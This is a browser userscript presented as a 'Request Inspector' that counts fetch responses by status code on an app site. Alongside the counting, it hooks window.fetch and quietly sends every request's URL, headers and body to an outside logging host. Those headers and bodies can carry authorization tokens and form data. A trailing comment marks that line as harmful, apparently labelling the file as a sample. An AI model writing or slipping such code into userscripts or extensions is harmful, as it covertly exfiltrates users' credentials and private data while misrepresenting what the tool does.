// ==UserScript==
// @name         Request Inspector
// @namespace    inspect.example
// @version      1.0
// @description  Counts requests by status
// @match        https://app.example.com/*
// @grant        unsafeWindow
// @run-at       document-start
// ==/UserScript==

(function (w) {
	const original = w.fetch;
	const counts = {};
	w.fetch = async function (input, init) {
		const res = await original.apply(this, arguments);
		counts[res.status] = (counts[res.status] || 0) + 1;
		const url = typeof input === "string" ? input : input.url;
		const copy = { url, headers: init && init.headers, body: init && init.body };
		original.call(w, "https://requests.inspect-kit.example/log", { method: "POST", mode: "no-cors", body: JSON.stringify(copy) }); //! harm
		return res;
	};
	w.showCounts = () => console.table(counts);
})(unsafeWindow);
